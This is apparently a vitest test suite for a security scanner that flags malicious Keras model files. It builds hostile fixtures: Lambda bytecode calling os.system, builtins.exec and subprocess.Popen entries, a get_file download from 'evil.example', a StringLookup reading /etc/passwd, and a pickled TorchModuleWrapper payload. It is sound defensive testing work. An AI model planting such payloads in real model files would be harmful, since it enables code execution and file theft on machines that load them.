/**
 * Keras through the CLI: Keras 3 `.keras` archives (config.json reaches the JSON config view, which
 * hands it to the Keras walker; model.weights.h5 reaches the HDF5 view) and legacy `.h5` files (root
 * attributes model_config / training_config), written by test/writers/keras.ts, plus files written by
 * real libhdf5 (test/fixtures/real/keras, scripts/gen-real-keras-fixtures.py).
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { REPO_ROOT, scanJson } from "./helpers/run-cli.js";
import { tempFiles } from "./helpers/temp-files.js";
import { buildHdf5 } from "./writers/hdf5.js";
import {
  k2,
  k2Input,
  k2LambdaBytecode,
  k2MobileNetLike,
  k2Sequential,
  k2TrainingConfig,
  k3,
  k3CompileConfig,
  k3Function,
  k3FunctionalModel,
  k3LambdaBytecode,
  k3LambdaFunction,
  k3Sequential,
  k3TimeDistributed,
  k3WeightsH5,
  kerasArchive,
  legacyKerasH5,
} from "./writers/keras.js";
import { pickle } from "./writers/pickle.js";

const { write: file } = tempFiles("keras");
const REAL = join(REPO_ROOT, "test", "fixtures", "real", "keras");

const summary = (findings: { severity: string; ruleId: string }[]): string[] =>
  findings.map((f) => `${f.severity} ${f.ruleId}`).sort();

describe("Keras: benign models as Keras writes them", () => {
  it("a Keras 3 .keras with a Functional model, nested Sequential, TimeDistributed and Bidirectional LSTM", async () => {
    const { code, report } = await scanJson(file("functional.keras", kerasArchive(k3FunctionalModel())));
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
    expect(report.files[0]?.format).toBe("keras");
  });

  it("a model.weights.h5 alone is HDF5 weights with nothing to report", async () => {
    const { code, report } = await scanJson(file("model.weights.h5", k3WeightsH5({ dense: [[1, 2], [3]] })));
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
    expect(report.files[0]?.format).toBe("hdf5");
  });

  for (const [label, bytes] of [
    [
      "Sequential, model_config as bytes (fixed-length)",
      legacyKerasH5(k2Sequential([k2Input("in", [null, 4])]), { trainingConfig: k2TrainingConfig() }),
    ],
    [
      "Sequential, model_config as str (variable-length)",
      legacyKerasH5(k2Sequential([k2Input("in", [null, 4])]), { configAs: "vlen" }),
    ],
    [
      "MobileNet-style Functional, superblock v3",
      legacyKerasH5(k2MobileNetLike(), { superblock: 3, trainingConfig: k2TrainingConfig() }),
    ],
    [
      "Keras 3 config in a legacy .h5, with a continuation block",
      legacyKerasH5(k3FunctionalModel(), { continuation: true, kerasVersion: "3.5.0" }),
    ],
  ] as const) {
    it(`a legacy .h5: ${label}`, async () => {
      const { code, report } = await scanJson(file(`benign-${label.length}.h5`, bytes));
      expect(report.findings).toEqual([]);
      expect(code).toBe(0);
      expect(report.files[0]?.format).toBe("keras-h5");
    });
  }
});

/** Files written by real libhdf5 (h5py) and real Keras 3.15 (scripts/gen-real-keras-fixtures.py). */
const MANIFEST = readFileSync(join(REAL, "MANIFEST.tsv"), "utf8")
  .trim()
  .split("\n")
  .slice(1)
  .map((line) => {
    const [name, what, generator] = line.split("\t");
    if (!name || !what || !generator || !/^(benign|malicious): /.test(what))
      throw new Error(`bad MANIFEST.tsv line: ${line}`);
    return { name, what, generator };
  });
const FORMAT_BY_NAME: [RegExp, string][] = [
  [/^weights-only\.h5$/, "hdf5"],
  [/\.h5$/, "keras-h5"],
  [/\.keras$/, "keras"],
  [/\.json$/, "config"],
];

describe("Keras: files real h5py/libhdf5 and Keras 3 wrote (test/fixtures/real/keras)", () => {
  it("has both outcomes and both Keras generations", () => {
    expect(MANIFEST.filter((r) => r.what.startsWith("benign")).length).toBeGreaterThanOrEqual(7);
    expect(MANIFEST.filter((r) => r.what.startsWith("malicious")).length).toBe(3);
    expect(MANIFEST.some((r) => r.generator.startsWith("keras==3."))).toBe(true);
  });

  for (const row of MANIFEST) {
    it(`${row.name} (${row.what})`, async () => {
      const { code, report } = await scanJson(join(REAL, row.name));
      const shown = JSON.stringify(report.findings, null, 1);
      expect(report.files[0]?.format).toBe(FORMAT_BY_NAME.find(([re]) => re.test(row.name))![1]);
      if (row.what.startsWith("benign")) {
        expect(report.findings, shown).toEqual([]);
        expect(code).toBe(0);
      } else {
        expect(summary(report.findings), shown).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
        expect(report.findings[0]!.evidence.names).toContain("system");
        expect(report.findings[0]!.evidence.strings).toContain("echo pwned");
        expect(code).toBe(1);
      }
    });
  }
});

describe("Keras: a real Keras 2 .h5 with a malicious Lambda (marshal.dumps of a function calling os.system)", () => {
  it("is critical, naming os.system and its argument", async () => {
    const { code, report } = await scanJson(join(REAL, "keras2-lambda-os-system.h5"));
    expect(code).toBe(1);
    expect(summary(report.findings)).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
    const [f] = report.findings;
    expect(f!.evidence).toMatchObject({
      names: ["os", "system"],
      strings: ["echo pwned"],
      kerasVersion: "2.11.0",
      backend: "tensorflow",
      attribute: "model_config",
      path: "config.layers[2].config.function",
    });
    expect(f!.location).toMatch(/^@\d+$/);
  });
});

const torchPayload = Buffer.from(
  pickle()
    .proto(2)
    .reduceGlobal("os", "system", (w) => w.binunicode("echo pwned"))
    .stop()
    .bytes(),
).toString("base64");

/** Each trick: a Keras config (as config.json or as model_config) and the findings it must give. */
const TRICKS: { name: string; config: unknown; expect: string[] }[] = [
  {
    name: "Lambda bytecode three levels deep, in a TimeDistributed inside a nested model",
    config: k3FunctionalModel({ timeDistributed: k3LambdaBytecode("sneaky") }),
    expect: ["critical KERAS_LAMBDA_BYTECODE"],
  },
  {
    name: "builtins.exec as the loss (CVE-2025-1550)",
    config: k3FunctionalModel({ compile: k3CompileConfig(k3Function("builtins", "exec")) }),
    expect: ["critical KERAS_DANGEROUS_FUNCTION"],
  },
  {
    name: "keras.config.enable_unsafe_deserialization in a Lambda (CVE-2025-9906)",
    config: k3Sequential(
      "s",
      [k3LambdaFunction("off", "keras.config", "enable_unsafe_deserialization"), k3LambdaBytecode("payload")],
      [null, 4],
    ),
    expect: ["critical KERAS_DANGEROUS_FUNCTION", "critical KERAS_LAMBDA_BYTECODE", "high KERAS_LAMBDA"],
  },
  {
    name: "keras.utils.get_file downloading a file (CVE-2025-8747)",
    config: k3Sequential(
      "s",
      [k3LambdaFunction("dl", "keras.utils", "get_file", { origin: "https://evil.example/x" })],
      [null, 4],
    ),
    expect: ["critical KERAS_DANGEROUS_FUNCTION", "high KERAS_LAMBDA"],
  },
  {
    name: "keras.models.load_model with safe_mode false",
    config: k3Sequential(
      "s",
      [k3LambdaFunction("reload", "keras.models", "load_model", { safe_mode: false })],
      [null, 4],
    ),
    expect: ["critical KERAS_DANGEROUS_FUNCTION", "high KERAS_LAMBDA"],
  },
  {
    name: "a custom layer from the author's own module",
    config: k3Sequential(
      "s",
      [k3("my_project.layers", "Attention", { name: "att" }, { registered_name: "MyProject>Attention" })],
      [null, 4],
    ),
    expect: ["high KERAS_UNSAFE_MODULE"],
  },
  {
    name: "subprocess.Popen as a nested object",
    config: k3Sequential(
      "s",
      [k3TimeDistributed("td", k3("subprocess", "Popen", { args: ["sh", "-c", "id"] }))],
      [null, 4],
    ),
    expect: ["critical KERAS_DANGEROUS_FUNCTION"],
  },
  {
    name: "StringLookup reading /etc/passwd as its vocabulary (CVE-2025-12058)",
    config: k3Sequential(
      "s",
      [k3("keras.layers", "StringLookup", { name: "lookup", vocabulary: "/etc/passwd", num_oov_indices: 1 })],
      [null, 4],
    ),
    expect: ["high KERAS_EXTERNAL_FILE"],
  },
  {
    name: "TFSMLayer",
    config: k3Sequential(
      "s",
      [k3("keras.layers", "TFSMLayer", { name: "sm", filepath: "/tmp/sm", call_endpoint: "serve" })],
      [null, 4],
    ),
    expect: ["high KERAS_TFSM_LAYER"],
  },
];

describe("Keras: tricks in a legacy .h5 model_config", () => {
  for (const trick of TRICKS) {
    it(trick.name, async () => {
      const { code, report } = await scanJson(
        file(`trick-${TRICKS.indexOf(trick)}.h5`, legacyKerasH5(trick.config)),
      );
      expect(summary(report.findings)).toEqual(trick.expect);
      expect(code).toBe(1);
      expect(report.files[0]?.format).toBe("keras-h5");
    });
  }

  it("a TorchModuleWrapper's pickled module is scanned: the os.system inside it is critical", async () => {
    const config = k3Sequential(
      "s",
      [k3("keras.layers", "TorchModuleWrapper", { name: "torch", module: torchPayload })],
      [null, 4],
    );
    const { code, report } = await scanJson(file("torch.h5", legacyKerasH5(config)));
    expect(code).toBe(1);
    expect(report.findings.some((f) => f.ruleId === "KERAS_TORCH_MODULE" && f.severity === "high")).toBe(
      true,
    );
    const nested = report.findings.find((f) => f.severity === "critical");
    expect(nested?.location).toMatch(/#config\.layers\[1\]\.config\.module@/);
    expect(JSON.stringify(nested?.evidence)).toContain("os.system");
  });

  it("a custom function named in training_config", async () => {
    const bytes = legacyKerasH5(k2Sequential([k2Input("in", [null, 4])]), {
      trainingConfig: k2TrainingConfig(k3Function("os", "system")),
    });
    const { report } = await scanJson(file("training.h5", bytes));
    expect(summary(report.findings)).toEqual(["critical KERAS_DANGEROUS_FUNCTION"]);
    expect(report.findings[0]!.evidence.attribute).toBe("training_config");
  });

  it("a keras_metadata-style layer node as the config", async () => {
    const node = {
      name: "lambda",
      class_name: "Lambda",
      config: (k2LambdaBytecode("lambda") as { config: unknown }).config,
      shared_object_id: 1,
    };
    const { report } = await scanJson(file("metadata-node.h5", legacyKerasH5(node)));
    expect(summary(report.findings)).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
  });

  it("Keras 2 Lambda bytecode in a file with superblock v3 and a continuation block", async () => {
    const bytes = legacyKerasH5(
      k2Sequential([k2("Bidirectional", { name: "bi", layer: k2LambdaBytecode("inner") })]),
      {
        superblock: 3,
        continuation: true,
      },
    );
    const { report } = await scanJson(file("v3.h5", bytes));
    expect(summary(report.findings)).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
  });
});

describe("Keras: tricks in a .keras config.json", () => {
  for (const trick of TRICKS) {
    it(trick.name, async () => {
      const { code, report } = await scanJson(
        file(`trick-${TRICKS.indexOf(trick)}.keras`, kerasArchive(trick.config)),
      );
      expect(summary(report.findings)).toEqual(trick.expect);
      expect(report.findings.every((f) => f.location.startsWith("config.json@"))).toBe(true);
      expect(code).toBe(1);
      expect(report.files[0]?.format).toBe("keras");
    });
  }

  it("a TorchModuleWrapper is reported", async () => {
    const config = k3Sequential(
      "s",
      [k3("keras.layers", "TorchModuleWrapper", { name: "torch", module: torchPayload })],
      [null, 4],
    );
    const { code, report } = await scanJson(file("torch.keras", kerasArchive(config)));
    expect(code).toBe(1);
    expect(report.findings.some((f) => f.ruleId === "KERAS_TORCH_MODULE")).toBe(true);
  });

  it("a malicious legacy .h5 hidden as the archive's model.weights.h5 is found too", async () => {
    const weights = legacyKerasH5(k2Sequential([k2LambdaBytecode("l")]));
    const { report } = await scanJson(
      file("weights-trick.keras", kerasArchive(k3FunctionalModel(), { weights })),
    );
    expect(summary(report.findings)).toEqual(["critical KERAS_LAMBDA_BYTECODE"]);
    expect(report.findings[0]!.location).toMatch(/^model\.weights\.h5@\d+$/);
  });
});

describe("Keras: files that cannot be verified are never clean", () => {
  it("dense attribute storage whose heap is missing: medium", async () => {
    const bytes = buildHdf5([{ name: "a", value: "b" }], { denseAttributes: true });
    const { code, report } = await scanJson(file("dense.h5", bytes));
    expect(summary(report.findings)).toEqual(["medium FORMAT_MALFORMED"]);
    expect(code).toBe(1);
  });

  it("a continuation cycle is malformed: medium", async () => {
    const { report } = await scanJson(
      file("cycle.h5", legacyKerasH5(k2Sequential([]), { continuationCycle: true })),
    );
    expect(summary(report.findings)).toEqual(["medium FORMAT_MALFORMED"]);
  });

  it("a model_config with json.dumps' bare NaN/Infinity is read as Keras reads it", async () => {
    const relu = k2("ReLU", { name: "relu", trainable: true, dtype: "float32", max_value: 1, threshold: 0 });
    const text = JSON.stringify(k2Sequential([relu])).replace('"max_value":1', '"max_value":Infinity');
    const { code, report } = await scanJson(file("inf.h5", legacyKerasH5(null, { rawConfig: text })));
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
  });

  it("a model_config that is not JSON: medium", async () => {
    const { code, report } = await scanJson(
      file("notjson.h5", legacyKerasH5(null, { rawConfig: "{'class_name': " })),
    );
    expect(summary(report.findings)).toEqual(["medium KERAS_CONFIG_MALFORMED"]);
    expect(code).toBe(1);
  });

  it("a truncated .h5: medium, not a crash", async () => {
    const bytes = legacyKerasH5(k2Sequential([k2Input("in", [null, 4])]));
    const { code, report } = await scanJson(file("truncated.h5", bytes.subarray(0, 400)));
    expect(report.findings.map((f) => f.severity)).toEqual(["medium"]);
    expect(code).toBe(1);
  });
});
